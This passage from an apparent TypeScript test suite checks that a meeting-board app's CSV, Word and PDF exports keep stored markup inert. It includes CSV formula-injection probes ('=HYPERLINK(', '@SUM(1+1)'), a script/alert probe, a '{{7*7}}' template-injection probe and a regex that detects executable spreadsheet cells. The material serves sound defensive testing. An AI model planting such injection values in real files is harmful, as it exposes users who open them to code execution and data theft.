    const appendix = `${home}/bodies/markup-board/attendance?from=2009-01-01&to=2009-12-31`;
    for (const path of [
      `${home}/bodies/markup-board/seats?at=2009-01-21&format=csv`,
      `${appendix}&format=csv`,
    ]) {
      const csv = await admin.get(path);
      assert.equal(csv.status, 200, path);
      assert.match(csv.headers['content-type']!, /text\/csv/);
      assert.ok(
        csv.text.includes(`'=HYPERLINK(`) || csv.text.includes(`"'=HYPERLINK(`),
        `${path}: ${csv.text}`,
      );
      assert.ok(csv.text.includes(`'@SUM(1+1)`), `${path}: ${csv.text}`);
      assert.doesNotMatch(csv.text, /(^|,)"?[=+@]/m, `${path}: a cell a spreadsheet would run`);
      checks.push(`CSV ${shapeOf(path)}`);
    }

    // Word: the text is there as text, and no field (a HYPERLINK field would be one)
    const word = await admin.get(`${appendix}&format=docx`).buffer(true).parse(binary);
    assert.equal(word.status, 200);
    const xml = await (await JSZip.loadAsync(word.body as Buffer)).file('word/document.xml')!.async('string');
    assert.ok(
      xml.includes('&lt;script&gt;alert(') || xml.includes('=HYPERLINK('),
      'the names in the document',
    );
    assert.ok(!xml.includes('<script'), 'no markup');
    assert.doesNotMatch(xml, /<w:fldSimple|<w:instrText/, 'no field');
    checks.push('Word attendance appendix');

    // PDF: the HTML Chromium prints holds the markup as text; so does the PDF
    const printed: string[] = [];
    const print = test.printer.print.bind(test.printer);
    test.printer.print = async (html, options) => {
      printed.push(html);
      return print(html, options);
    };
    try {
      const pdf = await admin.get(`${appendix}&format=pdf`).buffer(true).parse(binary);
      assert.equal(pdf.status, 200);
      assert.equal(printed.length, 1);
      const html = $(printed[0]!);
      assert.equal(html('script').length, 0, 'no script in the printed HTML');
      assert.ok(pageText(printed[0]!).includes(formula), 'the formula as text');
      assert.ok(!printed[0]!.includes(script));
      checks.push('PDF attendance appendix (printed HTML)');
      if (existsSync('/usr/bin/pdftotext')) {
        const file = join(tmpdir(), `attack-${randomBytes(4).toString('hex')}.pdf`);
        writeFileSync(file, pdf.body as Buffer);
        const text = spawnSync('/usr/bin/pdftotext', [file, '-'], { encoding: 'utf8' }).stdout;
        rmSync(file, { force: true });
        // as printed, lines wrapped where the table's column ends
        const flat = text.replace(/\s+/g, '');
        for (const stored of [formula, script, '{{7*7}}'])
          assert.ok(flat.includes(stored.replace(/\s+/g, '')), `${stored} in the PDF: ${text}`);
        checks.push('PDF text (pdftotext)');
      }
    } finally {
      test.printer.print = print;
    }
    process.stdout.write(
      `# stored markup (${engine}): kept as text in ${checks.length} outputs: ${checks.join('; ')}\n`,
    );
  });
});
